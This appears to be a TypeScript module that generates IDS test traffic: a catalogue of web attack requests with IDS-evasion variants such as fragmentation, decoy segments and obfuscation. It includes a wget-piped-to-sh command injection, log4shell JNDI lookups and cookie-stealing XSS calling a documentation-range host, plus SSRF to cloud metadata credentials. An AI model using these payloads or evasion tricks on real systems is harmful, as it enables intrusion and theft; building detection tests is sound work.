/**
 * The web attacks of the generated capture: SQL injection, cross-site scripting, path
 * traversal, command injection and log4shell requests as the usual tools send them (sqlmap,
 * curl, nuclei, scripts), each in a plain form and in the evasive forms IDS tests use: percent
 * and double percent encoding, a body instead of a query, obfuscation, tiny TCP segments, IP
 * fragments; then SSRF to the cloud metadata service and CRLF injection, two forms each, a SQL
 * injection over cleartext HTTP/2, XSS in a WebSocket message, and SQL injection behind decoy
 * segments with a wrong checksum (insertion).
 * `type` is the engine's attack_type for each family.
 */
import { WS_TEXT, wsDeflate, wsFrame } from '../craft/websocket.js';
import { httpRequest } from './content.js';

/**
 * How a request travels: whole, split in tiny TCP segments, in IP fragments, behind decoy segments
 * the server drops, on a second connection from the first one's source port (port reuse), or the
 * whole conversation inside a GRE tunnel between the client and the server.
 */
export type Delivery =
  | { readonly kind: 'whole' }
  | { readonly kind: 'segments'; readonly size: number }
  | { readonly kind: 'fragments'; readonly fragPayload: number }
  | { readonly kind: 'decoys' }
  | { readonly kind: 'gre' }
  /** `first`: the request of the first connection, closed by the server before the attack's. */
  | { readonly kind: 'reuse'; readonly first: string };

/** One malicious HTTP request and the server's answer. */
export interface WebAttack {
  readonly type: 'sqli' | 'xss' | 'path_traversal' | 'command_injection' | 'log4shell' | 'ssrf' | 'crlf_injection';
  readonly variant: string;
  readonly description: string;
  readonly request: string;
  readonly status: number;
  readonly delivery: Delivery;
  /** The server's answer when it is not an HTTP/1.1 response with `status` (an HTTP/2 one, a 101). */
  readonly response?: string;
  /** What the client sends once answered (a WebSocket's frames), and the server's reply to it. */
  readonly then?: { readonly client: string; readonly server: string };
}

const HOST = 'intranet.corp.example';
const WHOLE: Delivery = { kind: 'whole' };
const UA = {
  sqlmap: 'sqlmap/1.8.2#stable (https://sqlmap.org)',
  curl: 'curl/8.5.0',
  python: 'python-requests/2.31.0',
  nuclei: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36',
} as const;

function get(target: string, userAgent: string, headers: readonly (readonly [string, string])[] = []): string {
  return httpRequest({ method: 'GET', host: HOST, target, userAgent, accept: '*/*', headers });
}

function post(target: string, userAgent: string, body: string): string {
  return httpRequest({ method: 'POST', host: HOST, target, userAgent, accept: '*/*', body });
}

/** An HTTP/2 frame (RFC 9113 §4.1) as latin1 text. */
function h2Frame(type: number, flags: number, stream: number, payload: string): string {
  const n = payload.length;
  return String.fromCharCode((n >> 16) & 255, (n >> 8) & 255, n & 255, type, flags, 0, 0, 0, stream) + payload;
}

/** An HPACK string literal, not Huffman-coded (RFC 7541 §5.2), with its length as a 7-bit-prefix integer. */
function hpackString(s: string): string {
  let out = '';
  let n = s.length;
  if (n < 127) return String.fromCharCode(n) + s;
  out += String.fromCharCode(127);
  n -= 127;
  while (n >= 128) {
    out += String.fromCharCode((n & 127) | 128);
    n >>= 7;
  }
  return out + String.fromCharCode(n) + s;
}

/**
 * A request on stream 1 of an h2c connection opened with prior knowledge, as curl
 * --http2-prior-knowledge sends it: the preface, SETTINGS, HEADERS (every field a literal
 * without indexing) and, with a body, DATA.
 */
function h2Request(fields: readonly (readonly [string, string])[], body?: string): string {
  const block = fields.map(([name, value]) => `\x00${hpackString(name)}${hpackString(value)}`).join('');
  const headers = h2Frame(1, body === undefined ? 0x5 : 0x4, 1, block);
  return `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${h2Frame(4, 0, 0, '')}${headers}${body === undefined ? '' : h2Frame(0, 0x1, 1, body)}`;
}

/** The server's side: SETTINGS, the ack of the client's, and a response with `status` on stream 1. */
function h2Response(status: number, body: string): string {
  const head = `\x00${hpackString(':status')}${hpackString(String(status))}\x00${hpackString('content-type')}${hpackString('text/html')}`;
  return `${h2Frame(4, 0, 0, '')}${h2Frame(4, 0x1, 0, '')}${h2Frame(1, 0x4, 1, head)}${h2Frame(0, 0x1, 1, body)}`;
}

/**
 * A browser's WebSocket message compressed with permessage-deflate against `window`, the client's
 * earlier messages (its kept context), in one masked text frame, as latin1 text.
 */
function wsCompressedFrame(text: string, window: string, mask: readonly number[]): string {
  return wsFrame(WS_TEXT, wsDeflate(text, window), { rsv1: true, mask }).toString('latin1');
}

/** A chat over WebSocket: a benign message, then script in one compressed against it. */
function wsChat(): { request: string; response: string; then: { client: string; server: string } } {
  const first = '{"type":"chat","room":"lobby","text":"hello all"}';
  const second = '{"type":"chat","room":"lobby","text":"<img src=x onerror=fetch(\'//198.51.100.99/?c=\'+document.cookie)>"}';
  // A browser's opening handshake, header for header.
  const request = [
    'GET /ws/chat HTTP/1.1',
    `Host: ${HOST}`,
    'Connection: Upgrade',
    'Pragma: no-cache',
    'Cache-Control: no-cache',
    `User-Agent: ${UA.nuclei}`,
    'Upgrade: websocket',
    `Origin: http://${HOST}`,
    'Sec-WebSocket-Version: 13',
    'Accept-Encoding: gzip, deflate',
    'Accept-Language: en-GB,en;q=0.7',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
    '',
    '',
  ].join('\r\n');
  const response = 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n';
  const client = wsCompressedFrame(first, '', [0x1f, 0x8b, 0x3c, 0x52]) + wsCompressedFrame(second, first, [0x6d, 0x02, 0xa9, 0xe4]);
  // The server's two answers: unmasked, uncompressed "ok" frames.
  return { request, response, then: { client, server: '\x81\x02ok\x81\x02ok' } };
}

/** The web attacks, in the order they are sent. The log4shell callback host is a documentation address. */
export function webAttacks(): readonly WebAttack[] {
  const cb = '198.51.100.99';
  return [
    { type: 'sqli', variant: 'plain', description: 'UNION SELECT in a query parameter (sqlmap)', request: get("/shop/item.php?id=1'+UNION+SELECT+username,password+FROM+users--+-", UA.sqlmap), status: 500, delivery: WHOLE },
    { type: 'sqli', variant: 'urlencoded', description: "tautology ' OR '1'='1, percent-encoded", request: get('/shop/item.php?id=1%27%20OR%20%271%27%3D%271', UA.python), status: 200, delivery: WHOLE },
    { type: 'sqli', variant: 'post_body', description: 'login bypass in a form body', request: post('/login', UA.curl, "username=admin'+OR+1=1--+-&password=x"), status: 403, delivery: WHOLE },
    { type: 'sqli', variant: 'split_segments', description: 'UNION SELECT in 7-byte TCP segments', request: get("/shop/item.php?id=-1'+UNION+ALL+SELECT+NULL,table_name+FROM+information_schema.tables--+-", UA.sqlmap), status: 500, delivery: { kind: 'segments', size: 7 } },
    { type: 'xss', variant: 'plain', description: '<script> in a query parameter', request: get('/search?q=<script>alert(document.cookie)</script>', UA.curl), status: 200, delivery: WHOLE },
    { type: 'xss', variant: 'urlencoded', description: '<script> percent-encoded', request: get('/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E', UA.python), status: 200, delivery: WHOLE },
    { type: 'xss', variant: 'post_body', description: 'event-handler injection in a comment form', request: post('/comments', UA.curl, 'name=joe&comment=<img src=x onerror=alert(document.domain)>'), status: 200, delivery: WHOLE },
    { type: 'xss', variant: 'ip_fragments', description: '<script> in 24-byte IP fragments', request: get('/search?q=<script>document.location="http://198.51.100.99/c?"+document.cookie</script>', UA.curl), status: 200, delivery: { kind: 'fragments', fragPayload: 24 } },
    { type: 'path_traversal', variant: 'plain', description: '../ to /etc/passwd', request: get('/download?file=../../../../../etc/passwd', UA.curl), status: 404, delivery: WHOLE },
    { type: 'path_traversal', variant: 'urlencoded', description: '%2e%2e%2f to /etc/passwd', request: get('/static/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', UA.nuclei), status: 400, delivery: WHOLE },
    { type: 'path_traversal', variant: 'double_encoded', description: '..%252f (double encoding) to win.ini', request: get('/download?file=..%252f..%252f..%252f..%252fwindows%252fwin.ini', UA.nuclei), status: 404, delivery: WHOLE },
    { type: 'path_traversal', variant: 'split_segments', description: 'LFI of /proc/self/environ in 5-byte TCP segments', request: get('/index.php?page=....//....//....//proc/self/environ', UA.curl), status: 404, delivery: { kind: 'segments', size: 5 } },
    { type: 'command_injection', variant: 'plain', description: '; cat /etc/passwd after a ping target', request: get('/cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd', UA.curl), status: 200, delivery: WHOLE },
    { type: 'command_injection', variant: 'urlencoded', description: '| id, percent-encoded', request: get('/tools/lookup?domain=example.com%7Cid', UA.python), status: 200, delivery: WHOLE },
    { type: 'command_injection', variant: 'post_body', description: '$(wget ... | sh) in a form body', request: post('/api/diag', UA.python, `target=8.8.8.8$(wget+http://${cb}/x.sh+-O-|sh)`), status: 500, delivery: WHOLE },
    { type: 'command_injection', variant: 'ip_fragments', description: '`uname -a` in 16-byte IP fragments', request: get('/cgi-bin/status?device=eth0`uname+-a`', UA.curl), status: 200, delivery: { kind: 'fragments', fragPayload: 16 } },
    { type: 'log4shell', variant: 'header', description: '${jndi:ldap://...} in User-Agent', request: get('/', `\${jndi:ldap://${cb}:1389/Exploit}`), status: 200, delivery: WHOLE },
    { type: 'log4shell', variant: 'obfuscated', description: '${${lower:j}ndi:...} in X-Api-Version', request: get('/api/v1/status', UA.nuclei, [['X-Api-Version', `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:l}dap://${cb}/a}`]]), status: 200, delivery: WHOLE },
    { type: 'log4shell', variant: 'urlencoded', description: '${jndi:...} percent-encoded in a query parameter', request: get(`/?x=%24%7Bjndi%3Aldap%3A%2F%2F${cb}%2Fa%7D`, UA.python), status: 200, delivery: WHOLE },
    { type: 'log4shell', variant: 'split_segments', description: '${jndi:...} in a header, 6-byte TCP segments', request: get('/login', UA.curl, [['X-Forwarded-For', `\${jndi:rmi://${cb}:1099/obj}`]]), status: 200, delivery: { kind: 'segments', size: 6 } },
    { type: 'ssrf', variant: 'plain', description: 'the metadata service\'s credentials URL in a query parameter', request: get('/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', UA.curl), status: 200, delivery: WHOLE },
    { type: 'ssrf', variant: 'obfuscated', description: 'the metadata address as one hex number, in a form body', request: post('/settings/webhook', UA.python, 'name=ci&url=http%3A%2F%2F0xA9FEA9FE%2Flatest%2Fuser-data'), status: 200, delivery: WHOLE },
    { type: 'crlf_injection', variant: 'plain', description: '%0d%0aSet-Cookie in a redirect target', request: get('/redirect?to=%2Fhome%0d%0aSet-Cookie:%20session=attacker', UA.nuclei), status: 302, delivery: WHOLE },
    { type: 'crlf_injection', variant: 'split_segments', description: '%0d%0aLocation in the path, 6-byte TCP segments', request: get('/%0d%0aLocation:%20http://198.51.100.99/', UA.curl), status: 404, delivery: { kind: 'segments', size: 6 } },
    {
      type: 'sqli',
      variant: 'http2',
      description: 'UNION SELECT over cleartext HTTP/2 (curl --http2-prior-knowledge)',
      request: h2Request([[':method', 'GET'], [':scheme', 'http'], [':authority', HOST], [':path', "/shop/item.php?id=1'+UNION+SELECT+NULL,version()--+-"], ['user-agent', 'curl/8.5.0'], ['accept', '*/*']]),
      status: 500,
      response: h2Response(500, '<html><body><h1>500</h1></body></html>'),
      delivery: WHOLE,
    },
    { type: 'xss', variant: 'websocket', description: 'an event handler in a chat message over WebSocket, compressed against the one before it', status: 101, delivery: WHOLE, ...wsChat() },
    { type: 'sqli', variant: 'tcp_insertion', description: 'UNION SELECT behind a decoy segment with a wrong TCP checksum, which the server drops', request: get("/shop/item.php?id=2'+UNION+SELECT+card_number,cvv+FROM+payments--+-", UA.curl), status: 500, delivery: { kind: 'decoys' } },
    { type: 'xss', variant: 'port_reuse', description: '<svg onload> on a second connection from the source port of a closed first one (GET /)', request: get('/search?q=%3Csvg%20onload%3Dalert(1)%3E', UA.curl), status: 200, delivery: { kind: 'reuse', first: get('/', UA.curl, [['Connection', 'close']]) } },
    { type: 'sqli', variant: 'gre_tunnel', description: 'UNION SELECT in a conversation carried inside a GRE tunnel between the client and the server', request: get('/shop/item.php?id=3+UNION+ALL+SELECT+username,password_hash+FROM+staff--+-', UA.curl), status: 500, delivery: { kind: 'gre' } },
  ];
}
